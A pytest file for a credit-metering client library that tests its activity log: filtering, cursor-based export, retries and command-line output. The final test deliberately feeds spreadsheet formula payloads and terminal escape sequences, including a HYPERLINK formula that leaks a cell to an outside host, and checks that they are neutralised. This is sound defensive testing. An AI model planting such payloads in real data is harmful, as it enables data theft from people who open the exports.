"""The activity log with both clients, and on the command line."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import timedelta
from decimal import Decimal
from typing import Any

import pytest

import creditgate
from creditgate import Attributes, EntryKind, Usage
from creditgate._commands.activity import harmless
from creditgate.testing import _activity
from creditgate.v1 import usage_service_pb2 as messages
from tests.client.conftest import Fake, Shell, answer


def work(fake: Fake, client: creditgate.Client, *, charges: int = 5) -> None:
    """Charge an hour apart: for two agents, the last of them with a label."""
    for number in range(charges):
        fake.advance(seconds=3_600)
        agent = Attributes(agent=("ann", "bob")[number % 2], model="large")
        labels = {"team": "red"} if number == charges - 1 else None
        name = f"h-{number}"
        client.charge("acme", hold_id=name, amount=2, attributes=agent, labels=labels)


def test_both_clients_read_and_filter_it(fake: Fake) -> None:
    with fake.client() as client:
        work(fake, client)
        found = list(client.list_activity("acme", page_size=2))
        assert [it.hold_id for it in found] == ["h-4", "h-3", "h-2", "h-1", "h-0", ""]
        assert sum(it.amount for it in found) == client.get_balance("acme").settled
        newest, first = found[0], found[-1]
        assert (newest.kind, newest.type, newest.amount_micros) == (
            EntryKind.CHARGE,
            "charge",
            -2_000_000,
        )
        assert (newest.settled, newest.model) == (Decimal(90), "large")
        assert newest.labels == {"team": "red"}
        assert newest.attributes == Attributes(agent="ann", model="large")
        assert (first.kind, first.type, first.name) == (EntryKind.GRANT, "grant", "initial")

        wanted: list[tuple[dict[str, Any], list[str]]] = [
            ({"agent": "bob"}, ["h-1", "h-3"]),
            ({"model": "small"}, []),
            ({"labels": {"team": "red"}}, ["h-4"]),
            ({"kinds": [EntryKind.GRANT]}, [""]),
            ({"days": 1 / 24}, ["h-3", "h-4"]),
            ({"since": first.created_at + timedelta(hours=4), "agent": "ann"}, ["h-4"]),
            ({"until": first.created_at + timedelta(hours=1)}, [""]),
        ]
        for given, names in wanted:
            listed = list(client.list_activity("acme", oldest_first=True, page_size=1, **given))
            assert [it.hold_id for it in listed] == names, given
            assert list(client.export_activity("acme", **given)) == listed
            assert asyncio.run(read_all(fake, given)) == (listed, listed)
        with pytest.raises(creditgate.NotFound):
            list(client.export_activity("nobody"))
        with pytest.raises(creditgate.InvalidRequest):
            list(client.list_activity("acme", days=1, since=first.created_at))


async def read_all(
    fake: Fake, given: dict[str, Any]
) -> tuple[list[creditgate.Activity], list[creditgate.Activity]]:
    async with fake.async_client() as client:
        listed = [it async for it in client.list_activity("acme", oldest_first=True, **given)]
        return listed, [it async for it in client.export_activity("acme", **given)]


def test_what_is_metered_says_what_it_counts(fake: Fake) -> None:
    with fake.client() as client:
        rates = [
            creditgate.Rate(meter=meter, model="*", unit_price_micros=1_000)
            for meter in ("training.tokens", "tokens.input", "tool")
        ]
        client.put_rate_card("std", version=1, rates=rates)
        client.put_plan("pro", version=1, rate_card_id="std")
        client.update_account("acme", plan="pro@1")
        client.charge("acme", hold_id="t", usage=Usage(meter="training.tokens", quantity=70))
        both = [Usage(meter="tokens.input", quantity=5), Usage(meter="tool", quantity=2, model="x")]
        client.charge("acme", hold_id="u", usages=both)
        several, single = list(client.list_activity("acme"))[:2]
        assert (single.type, single.meter, single.quantity) == ("training", "training.tokens", 70)
        assert (several.type, several.meter, several.usages) == ("tokens", "tokens.input", (*both,))
        assert [it.hold_id for it in client.list_activity("acme", meter="tool")] == ["u"]


def test_an_export_bridges_interruptions(fake: Fake, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_activity, "CHUNK_MAX", 2)
    with fake.client() as client:
        work(fake, client)
        fake.requests.clear()
        fake.lose_replies()
        fake.refuse()
        names = [it.hold_id for it in client.export_activity("acme")]
        assert names == ["", *(f"h-{n}" for n in range(5))]
        sent = [each for each in fake.requests if isinstance(each, messages.ExportActivityRequest)]
        assert [bool(each.cursor) for each in sent] == [False, True, True]

        fake.lose_replies()
        assert [it.hold_id for it in asyncio.run(read_all(fake, {"agent": "ann"}))[1]] == [
            *("h-0", "h-2", "h-4")
        ]


def test_an_export_goes_on_from_its_cursor(fake: Fake, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_activity, "CHUNK_MAX", 2)
    with fake.client() as client:
        work(fake, client)
        export = client.export_activity("acme")
        for taken, chunk in enumerate(export.chunks(), start=1):
            assert len(chunk.activities) == 2
            if taken == 2:
                break
        # The second chunk was not taken whole: it comes again.
        again = client.export_activity("acme", cursor=export.cursor)
        assert [it.hold_id for it in again] == ["h-1", "h-2", "h-3", "h-4"]
        assert list(again) == []
        with pytest.raises(creditgate.InvalidRequest):
            list(client.export_activity("acme", cursor="forged"))


def test_the_command_shows_a_table(fake: Fake, shell: Shell) -> None:
    with fake.client() as client:
        work(fake, client, charges=3)
    table = shell("activity", "acme", "--days", "7").stdout.splitlines()
    assert table[0].split() == ["time", "type", "amount", "balance", "model", "agent", "name"]
    assert [line.split()[2:] for line in table[1:]] == [
        ["charge", "-2", "94", "large", "ann", "h-2"],
        ["charge", "-2", "96", "large", "bob", "h-1"],
        ["charge", "-2", "98", "large", "ann", "h-0"],
        ["grant", "+100", "100", "initial"],
    ]
    assert len({line.index(word) for line, word in zip(table, ("name", "h-2"), strict=False)}) == 1
    listed = answer(shell("activity", "acme", "--agent", "ann", "--limit", "1", "--json"))
    assert [(it["hold_id"], it["amount"]) for it in listed] == [("h-2", "-2")]
    lines = shell("activity", "acme", "--jsonl", "--kind", "charge").stdout.splitlines()
    assert [json.loads(line)["hold_id"] for line in lines] == ["h-0", "h-1", "h-2"]
    assert shell("activity", "acme", "--csv", "--jsonl").exit_code == 2
    assert shell("activity", "acme", "--model", "none").stdout == "no activity\n"
    assert answer(shell("activity", "acme", "--model", "none", "--json")) == []


def test_neither_spreadsheet_nor_terminal_is_commanded_by_it(fake: Fake, shell: Shell) -> None:
    evil = '=HYPERLINK("https://example.com/?"&A1,"click")'
    with fake.client() as client:
        described = Attributes(agent=evil, topic="@SUM(1)", user="-1\n+1", model="\t=1")
        client.charge("acme", hold_id="@h", amount=1, attributes=described, labels={"k": "=1"})
    described = Attributes(agent="\x1b[2J", topic="a\nb")
    with fake.client() as client:
        client.charge("acme", hold_id="z", amount=1, attributes=described)
    table = shell("activity", "acme").stdout
    assert ("\x1b" in table, table.count("\n"), "a\ufffdb" in table) == (False, 4, True)
    rows = list(csv.DictReader(io.StringIO(shell("activity", "acme", "--csv").stdout)))
    row = rows[-2]
    told = [row[name] for name in ("agent", "topic", "user", "model", "hold_id", "labels")]
    assert told == [f"'{evil}", "'@SUM(1)", "'-1\n+1", "'\t=1", "'@h", '{"k": "=1"}']
    assert (row["amount"], row["settled"], row["kind"]) == ("-1", "99", "CHARGE")
    assert [cell for cell in rows[0].values() if cell[:1] in "=+@\t" and cell] == []
    assert [harmless(text) for text in ("", "a=b", "+1")] == ["", "a=b", "'+1"]
